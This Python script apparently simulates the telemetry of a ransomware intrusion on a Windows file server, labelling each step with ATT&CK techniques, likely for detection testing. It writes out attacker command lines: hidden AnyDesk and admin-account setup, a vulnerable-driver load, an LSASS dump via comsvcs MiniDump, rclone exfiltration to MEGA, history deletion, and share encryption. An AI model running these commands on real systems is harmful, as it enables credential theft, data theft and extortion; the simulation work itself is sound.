"""An intruder at the keyboard of a file server: AnyDesk with a password, a hidden administrator, LSASS dumped, an archive
without a password, rclone to MEGA; then another machine encrypts the shares over SMB. Resembles affiliates of Akira."""
from scenery import MICROSOFT, Desktop

SETTING = {"start": "2024-09-14T23:37:46", "user": "NORDWERK\\svc_backup", "home": "C:\\Users\\svc_backup",
           "computer": "NW-FILE01", "os_version": (10, 0, 20348), "local_address": "192.0.2.20"}
DESK, RELAY, CLOUD, OTHER = ("198.51.100.201", 443), ("198.51.100.202", 443), ("198.51.100.203", 443), ("192.0.2.77", 51544)
ACCOUNT, ENDING, NOTE = "svc_sqlagent", ".cx91ab", "RECOVER-cx91ab-DATA.txt"
SERVICES = r"HKLM\System\CurrentControlSet\Services" + "\\"
USERS = r"HKLM\SAM\SAM\Domains\Account\Users" + "\\"
HIDDEN_USERS = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList"
TERMINAL = r"HKLM\System\CurrentControlSet\Control\Terminal Server"
TOOLS = r"C:\PerfLogs\t"
SHARES = {r"D:\Shares\Finance": ["Bilanz_2022", "Bilanz_2023", "Budget", "Löhne_08", "Steuer"],
          r"D:\Shares\Projects\Werft": ["Angebot", "Plan_A", "Plan_B", "Vertrag", "Kalkulation"],
          r"D:\Shares\HR": ["Personalakte_11", "Personalakte_12", "Bewerbung", "Urlaub"]}
KINDS = (".xlsx", ".docx", ".pdf")


def also(c, *processes):
    """The behaviour just told was done through these processes too."""
    c.behaviours[-1].pids.update(process.pid for process in processes)


def run(c, parent, program, arguments):
    return c.spawn(parent, c.system_root + "\\System32\\" + program + ".exe", "%s  %s" % (program, arguments), **MICROSOFT)


def run_net(c, shell, arguments):
    """net.exe has net1.exe do it."""
    net = run(c, shell, "net", arguments)
    return net, c.spawn(net, c.system_root + r"\System32\net1.exe", r"C:\Windows\system32\net1  " + arguments, **MICROSOFT)


def end(c, *processes):
    for process in reversed(processes):
        c.exit(process)


def documents():
    return [folder + "\\" + name + KINDS[number % 3]
            for folder, names in SHARES.items() for number, name in enumerate(names)]


def install_remote_desktop(c, desktop, shell):
    """AnyDesk from its maker, as a service, with a password of the intruder."""
    maker = {"company": "AnyDesk Software GmbH", "description": "AnyDesk", "version": "8.0.14"}
    setup, home = TOOLS + r"\AnyDesk.exe", r"C:\ProgramData\AnyDesk"
    with c.behaviour("fetches AnyDesk with curl", "low", "T1105", doer=shell, about=("curl", "AnyDesk.exe", "anydesk.com")):
        curl = run(c, shell, "curl", "-o %s https://download.anydesk.com/AnyDesk.exe" % setup)
        desktop.resolve()
        c.exchange(curl, DESK, 60110, [517, 190], [16_384] * 8)
        c.drop(curl, setup, 5_300_000, chunk=1_048_576)
    also(c, curl)
    end(c, curl)
    with c.behaviour("installs AnyDesk silently as a service", "medium", ("T1219.002", "T1219", "T1543.003"), doer=shell,
                     about="AnyDesk"):
        installer = c.spawn(shell, setup, "%s --install %s --start-with-win --silent" % (setup, home), **maker)
        c.folder(installer, home)
        c.read(installer, setup, 5_300_000, chunk=1_048_576)
        c.drop(installer, home + r"\AnyDesk.exe", 5_300_000, chunk=1_048_576)
        c.key(desktop.services, SERVICES + "AnyDesk", new=True)
        for name, number in (("Type", 16), ("Start", 2), ("ErrorControl", 1)):
            c.set_value(desktop.services, SERVICES + "AnyDesk\\" + name, "REG_DWORD", number)
        c.set_value(desktop.services, SERVICES + r"AnyDesk\ImagePath", "REG_EXPAND_SZ", '"%s\\AnyDesk.exe" --service' % home)
        service = c.spawn(desktop.services, home + r"\AnyDesk.exe", '"%s\\AnyDesk.exe" --service' % home, **maker)
    also(c, installer, service)
    end(c, installer)
    c.exchange(service, RELAY, 60118, [517, 300], [1460, 820])
    with c.behaviour("gives AnyDesk a password for access without a user", "high", ("T1219.002", "T1219", "T1098"),
                     doer=shell, about="--set-password"):
        echo = c.spawn(shell, c.system_root + r"\System32\cmd.exe",
                       r'C:\Windows\system32\cmd.exe  /S /D /c" echo Wint3r#55"', **MICROSOFT)
        setter = c.spawn(shell, home + r"\AnyDesk.exe", home + r"\AnyDesk.exe --set-password", **maker)
        c.drop(service, home + r"\service.conf", 3_400, opened=3)
    also(c, echo, setter, service)
    end(c, echo, setter)


def add_administrator(c, shell, lsass):
    with c.behaviour("creates an account", "high", "T1136.001", doer=shell, about=ACCOUNT):
        chain = run_net(c, shell, "user %s Wint3r#55 /add" % ACCOUNT)
        c.key(lsass, USERS + "Names\\" + ACCOUNT, new=True)
        c.set_value(lsass, USERS + r"000003F9\V", "REG_BINARY", bytes(400))
    also(c, lsass, *chain)
    end(c, *chain)
    with c.behaviour("makes the account an administrator", "high", ("T1098.007", "T1098", "T1136.001"), doer=shell,
                     about=(ACCOUNT, "administrators")):
        chain = run_net(c, shell, "localgroup administrators %s /add" % ACCOUNT)
        c.set_value(lsass, r"HKLM\SAM\SAM\Domains\Builtin\Aliases\00000220\C", "REG_BINARY", bytes(280))
    also(c, lsass, *chain)
    end(c, *chain)
    with c.behaviour("hides the account at the logon", "high", ("T1564.002", "T1564"), doer=shell,
                     about=("SpecialAccounts", ACCOUNT)):
        reg = run(c, shell, "reg", 'add "%s" /v %s /t REG_DWORD /d 0 /f' % (HIDDEN_USERS, ACCOUNT))
        c.key(reg, HIDDEN_USERS, new=True)
        c.set_value(reg, HIDDEN_USERS + "\\" + ACCOUNT, "REG_DWORD", 0)
    also(c, reg)
    end(c, reg)
    with c.behaviour("opens the machine for remote desktops", "high", ("T1021.001", "T1112", "T1685"), doer=shell,
                     about="fDenyTSConnections"):
        reg = run(c, shell, "reg", 'add "%s" /v fDenyTSConnections /t REG_DWORD /d 0 /f' % TERMINAL)
        c.set_value(reg, TERMINAL + r"\fDenyTSConnections", "REG_DWORD", 0)
    also(c, reg)
    end(c, reg)


def load_driver(c, desktop, shell, kernel):
    """A maker's flawed driver for updating firmware, which sc.exe has registered."""
    path = TOOLS + r"\dbutil_2_3.sys"
    with c.behaviour("drops a vulnerable driver and has it loaded", "high", ("T1068", "T1543.003", "T1685", "T1687"),
                     doer=shell, about="dbutil_2_3"):
        c.drop(shell, path, 14_840)
        chain = [run(c, shell, "sc", "create dbutil type= kernel binPath= " + path)]
        c.key(desktop.services, SERVICES + "dbutil", new=True)
        for name, number in (("Type", 1), ("Start", 3), ("ErrorControl", 1)):
            c.set_value(desktop.services, SERVICES + "dbutil\\" + name, "REG_DWORD", number)
        c.set_value(desktop.services, SERVICES + r"dbutil\ImagePath", "REG_EXPAND_SZ", "\\??\\" + path)
        chain.append(run(c, shell, "sc", "start dbutil"))
        c.load(kernel, path, 0xFFFFF80345670000, 0x8000)
    also(c, *chain)
    end(c, *chain)


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    kernel, lsass = c.system("System", pid=4), c.system(system32 + "lsass.exe")
    c.ports[(445, True)] = "microsoft-ds"
    for (address, _), name in ((DESK, "download.anydesk.com"), (RELAY, "relay-8a3f.net.anydesk.com"),
                               (CLOUD, "g.api.mega.co.nz"), (OTHER, "NW-CL042")):
        c.host(address, name)
    desktop.murmur(8)
    batch = c.home + r"\Downloads\go.bat"
    shell = c.spawn(desktop.explorer, system32 + "cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c ""%s" "' % batch,
                    integrity="High", **MICROSOFT)
    c.read(shell, batch, 2_100)
    c.folder(shell, TOOLS)
    install_remote_desktop(c, desktop, shell)
    add_administrator(c, shell, lsass)
    with c.behaviour("asks for the domain's trusts and controllers", "medium", ("T1482", "T1018"), doer=shell,
                     about="nltest"):
        chain = run(c, shell, "nltest", "/dclist:nordwerk"), run(c, shell, "nltest", "/domain_trusts")
    also(c, *chain)
    end(c, *chain)
    load_driver(c, desktop, shell, kernel)
    dump = TOOLS + r"\l.bin"
    with c.behaviour("dumps LSASS with Windows' own library", "critical", "T1003.001", doer=shell,
                     about=("comsvcs", "MiniDump", "l.bin")):
        runner = run(c, shell, "rundll32", "C:\\windows\\system32\\comsvcs.dll, MiniDump %d %s full" % (lsass.pid, dump))
        c.load(runner, system32 + "comsvcs.dll")
        c.load(runner, system32 + "dbgcore.dll")
        c.drop(runner, dump, 52_000_000, chunk=8_388_608)
    also(c, runner)
    end(c, runner)
    packer_image, archive = TOOLS + r"\7za.exe", TOOLS + r"\fin.7z"
    c.drop(shell, packer_image, 1_270_000, chunk=262_144)
    with c.behaviour("packs the shares' documents into an archive without a password", "medium", ("T1560.001", "T1560"),
                     doer=shell, about=("fin.7z", "7za")):
        packer = c.spawn(shell, packer_image, r"%s a -mx1 -v500m %s D:\Shares\*" % (packer_image, archive),
                         company="Igor Pavlov")
        for path in documents():
            c.read(packer, path, 90_000)
        c.drop(packer, archive + ".001", 2_900_000, chunk=524_288)
    also(c, packer)
    end(c, packer)
    rclone_image = TOOLS + r"\rclone.exe"
    c.drop(shell, rclone_image, 49_000_000, chunk=8_388_608)
    c.drop(shell, TOOLS + r"\rclone.conf", 190)
    with c.behaviour("copies the archive to MEGA with rclone", "high", ("T1567.002", "T1567", "T1048"), doer=shell,
                     about=("rclone", "mega")):
        rclone = c.spawn(shell, rclone_image, r"%s --config %s\rclone.conf copy %s mega:nw --include fin.7z.* -q "
                         r"--ignore-existing --multi-thread-streams 12" % (rclone_image, TOOLS, TOOLS),
                         company="https://rclone.org")
        c.read(rclone, TOOLS + r"\rclone.conf", 190)
        c.read(rclone, archive + ".001", 2_900_000, chunk=524_288)
        c.exchange(rclone, CLOUD, 60144, [517] + [65_536] * 40, [300, 280])
    also(c, rclone)
    end(c, rclone)
    history = c.home + r"\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt"
    with c.behaviour("deletes the history of commands", "medium", ("T1070.003", "T1070.004"), doer=shell,
                     about="ConsoleHost_history"):
        c.delete(shell, history)
    for path in (dump, archive + ".001", rclone_image):
        c.delete(shell, path)
    c.exit(shell)
    desktop.murmur(4)
    c.wait(40)
    with c.behaviour("another machine encrypts the shares over the network", "critical", "T1486", doer=kernel,
                     about=(ENDING, "Shares")):
        for path in documents():
            c.net(kernel, "Receive", OTHER, 445, 65_000)
            c.open(kernel, path, 0x12019F, share=0)
            for at in range(0, 131_072, 65_536):
                c.write_at(kernel, path, at, 65_536)
            c.close(kernel, path)
            c.rename(kernel, path, path + ENDING)
            c.net(kernel, "Send", OTHER, 445, 240)
    with c.behaviour("the other machine leaves notes in the shares", "high", ("T1486", "T1491.001"), doer=kernel,
                     about=NOTE):
        for folder in SHARES:
            c.drop(kernel, folder + "\\" + NOTE, 2_310)
    desktop.murmur(5)
